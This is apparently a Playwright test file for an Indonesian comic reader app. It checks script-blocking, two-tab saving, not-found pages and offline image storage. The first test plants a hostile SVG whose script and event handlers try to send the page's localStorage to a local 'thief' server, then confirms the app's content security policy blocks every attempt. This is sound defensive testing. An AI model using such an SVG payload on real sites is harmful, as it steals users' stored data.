/**
 * The README's promises under hostile and unlucky use, in Chromium on a phone: a picture that carries script runs
 * nothing even opened on its own; two tabs read and learn side by side and nothing is lost; an address that cannot be
 * read shows "not found"; raster art (.jpg, .webp) reads offline like SVG.
 */
import { cpSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { Browser, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { appReady, expectAccessible, expectSameOrigin, launch, open, screenshot } from './browser';
import { buildInto, freePort, ROOT, serve } from './servers';

let browser: Browser;
let scratch: string;
beforeAll(async () => {
  browser = await launch();
  scratch = mkdtempSync(join(tmpdir(), 'komik-saku-hardening-'));
});
afterAll(async () => {
  await browser?.close();
  rmSync(scratch, { recursive: true, force: true });
});

const next = (page: Page) => page.getByRole('button', { name: /Lanjut|Next/ }).click();
const panelNamed = (page: Page, pattern: RegExp) => page.getByRole('img', { name: pattern });

describe('a picture that carries script', () => {
  it('runs nothing and sends nothing away when opened on its own, and the app is served with its policy as a header', async () => {
    // The build refuses such a file (served-files.test.ts); this is the host's second line: one slipped into dist/.
    const dist = join(scratch, 'dist-with-evil-art');
    cpSync(join(ROOT, 'dist'), dist, { recursive: true });
    const stolen: string[] = [];
    const thief: Server = createServer((request, response) => {
      stolen.push(request.url ?? '');
      response.end();
    });
    const thiefPort = await freePort();
    await new Promise<void>((resolve) => thief.listen(thiefPort, '127.0.0.1', resolve));
    writeFileSync(
      join(dist, 'panels', 'sample', 'evil.svg'),
      `<svg xmlns="http://www.w3.org/2000/svg" onload="alert('onload')"><script>alert('script'); fetch('http://127.0.0.1:${thiefPort}/steal?' + encodeURIComponent(JSON.stringify(localStorage)));</script><image href="http://127.0.0.1:${thiefPort}/pixel.png" width="1" height="1"/><rect width="10" height="10" onclick="alert('click')"/></svg>`,
    );
    const port = await freePort();
    const server = await serve(port, dist);
    try {
      const session = await open(browser);
      const { page } = session;
      const base = `http://127.0.0.1:${port}/`;
      const dialogs: string[] = [];
      // Chromium reports a request the policy then blocks (net::ERR_BLOCKED_BY_CSP): what counts is what got an answer.
      const answered: string[] = [];
      page.on('response', (response) => answered.push(response.url()));
      page.on('dialog', (dialog) => {
        dialogs.push(dialog.message());
        void dialog.dismiss();
      });
      // The reader has progress in this origin: what the script was after.
      const app = await page.goto(`${base}#/read/sample`);
      expect(app!.headers()['content-security-policy']).toMatch(/^default-src 'self'; .*script-src 'self' 'sha256-.*frame-ancestors 'none'/);
      await panelNamed(page, /Sore hari di warung/).waitFor();
      await next(page);
      // Chromium says what the policy blocked: the wait is for those (onload, the script, then the click's handler),
      // not a fixed time; without the policy they never come and the alerts run instead.
      const blocked: string[] = [];
      page.on('console', (message) => blocked.push(message.text()));
      const art = await page.goto(`${base}panels/sample/evil.svg`);
      expect(art!.headers()['content-security-policy']).toContain("script-src 'none'");
      await page.locator('rect').click();
      await expect.poll(() => blocked.filter((text) => text.startsWith('Blocked script execution')).length, { timeout: 10_000 }).toBe(3);
      await expect.poll(() => blocked.some((text) => text.includes(`${thiefPort}/pixel.png`)), { timeout: 10_000 }).toBe(true);
      expect(dialogs).toEqual([]);
      expect(stolen).toEqual([]);
      expect(answered.filter((url) => url.includes(String(thiefPort)))).toEqual([]);
      await session.context.close();
    } finally {
      await server.close();
      thief.close();
    }
  });
});

describe('two tabs of the app', () => {
  it('read the same story side by side: the lessons and endings of both are kept, and the place read last', async () => {
    const session = await open(browser);
    const { page: first, context, base } = session;
    const second = await context.newPage();
    second.on('pageerror', (error) => session.errors.push(error.message));
    // Both open the sample at its start, with nothing saved.
    await first.goto(`${base}#/read/sample`);
    await second.goto(`${base}#/read/sample`);
    await appReady(first);
    await appReady(second);
    await panelNamed(second, /Sore hari di warung/).waitFor();
    // The second tab learns no lesson itself: it must celebrate none (the first tab's arrive by its storage events).
    await second.evaluate(() => {
      const seen: string[] = [];
      Object.assign(window, { celebrated: seen });
      new MutationObserver(() => document.querySelectorAll('.celebration').forEach((toast) => seen.push(toast.textContent ?? ''))).observe(document.body, {
        subtree: true,
        childList: true,
      });
    });

    // The first tab reads the safe path to its good ending: four lessons and an ending.
    await first.bringToFront();
    await panelNamed(first, /Sore hari di warung/).waitFor();
    for (let i = 0; i < 3; i++) await next(first);
    await first.getByRole('button', { name: /Tanya dulu ke Disnaker/ }).click();
    await panelNamed(first, /Bu Rina/).waitFor();
    for (let i = 0; i < 3; i++) await next(first);
    await first.getByRole('button', { name: /Berangkat dengan kontrak/ }).click();
    await next(first);
    await first.getByRole('heading', { name: 'Berangkat dengan aman' }).waitFor();

    // The second tab, still at the start in its own memory, then reads the broker's path to the bad ending.
    await second.bringToFront();
    for (let i = 0; i < 3; i++) await next(second);
    await second.getByRole('button', { name: /Terima uangnya/ }).click();
    await panelNamed(second, /paspor Sari/).waitFor();
    await next(second);
    await next(second);
    await second.getByRole('button', { name: /Berangkat bersama Pak Darto/ }).click();
    await next(second);
    await second.locator('.ending').waitFor();

    expect(await second.evaluate(() => (window as unknown as { celebrated: string[] }).celebrated)).toEqual([]);

    // Everything of both is stored: the first tab's lessons and ending were not written over by the second.
    const stored = await first.evaluate(() => ({
      lessons: Object.keys(JSON.parse(localStorage.getItem('komik-saku/lessons')!).state.completed).sort(),
      progress: JSON.parse(localStorage.getItem('komik-saku/progress')!).state as {
        saves: Record<string, { path: { scene: string }[] }>;
        endings: Record<string, string[]>;
      },
    }));
    expect(stored.lessons).toHaveLength(4);
    expect([...stored.progress.endings.sample!].sort()).toEqual(['bad-stranded', 'good-official']);
    // The place is the one read last: the second tab's, at the broker's ending.
    expect(stored.progress.saves.sample!.path.map((step) => step.scene)).toEqual(['warung', 'calo', 'decide', 'bad-end']);

    // And each tab shows it all, without a reload.
    for (const page of [first, second]) {
      await page.bringToFront();
      await page.evaluate(() => (window.location.hash = '#/lessons'));
      await page.getByText('4 dari 11 pelajaran sudah kamu pelajari').waitFor();
      // The sample is for authors, not in the library: its story map counts the endings found.
      await page.evaluate(() => (window.location.hash = '#/read/sample'));
      await page.locator('.reader-map-open').click();
      await page.getByRole('heading', { name: 'Akhir cerita yang kamu temukan: 2 dari 2' }).waitFor();
      await page.keyboard.press('Escape');
    }
    await screenshot(second, 'two-tabs-reader');
    expect(session.errors).toEqual([]);
    await context.close();
  });
});

// Every screen's broken address is checked in jsdom (screens.test.tsx) and the class in routes.test.ts; Chromium's own
// hash handling, the look and axe are checked here once.
describe('an address that cannot be read', () => {
  it.each(['#/read/%'])('%s shows "not found" with the way back, not a blank page', async (hash) => {
    const session = await open(browser);
    const { page } = session;
    await page.goto(`${session.base}${hash}`);
    await page.getByRole('heading', { name: 'Halaman ini tidak ada' }).waitFor();
    await screenshot(page, `not-found-${hash.replace(/[^a-z]/g, '')}`);
    await expectAccessible(page, `not found at ${hash}`);
    await page.getByRole('link', { name: 'Kembali ke daftar cerita' }).click();
    await page.locator('.story-card h2').first().waitFor();
    expect(session.errors).toEqual([]);
    await session.context.close();
  });
});

describe('raster art', () => {
  it('.jpg and .webp pictures are stored for offline reading like SVG', async () => {
    // Real pictures, drawn by the browser itself.
    const maker = await open(browser);
    const pictures = await maker.page.evaluate(() => {
      const canvas = document.createElement('canvas');
      canvas.width = 8;
      canvas.height = 8;
      canvas.getContext('2d')!.fillRect(0, 0, 8, 8);
      return { jpg: canvas.toDataURL('image/jpeg').split(',')[1]!, webp: canvas.toDataURL('image/webp').split(',')[1]! };
    });
    await maker.context.close();
    const publicDir = join(scratch, 'public-with-rasters');
    cpSync(join(ROOT, 'public'), publicDir, { recursive: true });
    writeFileSync(join(publicDir, 'panels', 'sample', 'photo.jpg'), Buffer.from(pictures.jpg, 'base64'));
    writeFileSync(join(publicDir, 'panels', 'sample', 'photo.webp'), Buffer.from(pictures.webp, 'base64'));
    const dist = join(scratch, 'dist-with-rasters');
    await buildInto(dist, '0.1.0-raster', { publicDir });
    const port = await freePort();
    const server = await serve(port, dist);
    try {
      const session = await open(browser);
      const { page, context } = session;
      const base = `http://127.0.0.1:${port}/`;
      await page.goto(base);
      await page.locator('.story-card h2').first().waitFor();
      await page.waitForFunction(() => navigator.serviceWorker.controller !== null, undefined, { timeout: 30_000, polling: 100 });
      // The reader chooses to store every story's pictures (they are not part of the app's own download).
      await page.getByRole('button', { name: /^Semua cerita sekarang/ }).click();
      await page.getByText('Semua cerita sudah tersimpan').waitFor({ timeout: 60_000 });
      await context.setOffline(true);
      const shown = await page.evaluate(async () =>
        Promise.all(
          ['photo.jpg', 'photo.webp'].map(
            (name) =>
              new Promise<number>((resolve) => {
                const image = new Image();
                image.onload = () => resolve(image.naturalWidth);
                image.onerror = () => resolve(0);
                image.src = `/panels/sample/${name}`;
              }),
          ),
        ),
      );
      expect(shown).toEqual([8, 8]);
      expectSameOrigin({ ...session, base });
      await context.close();
    } finally {
      await server.close();
    }
  }, 180_000);
});
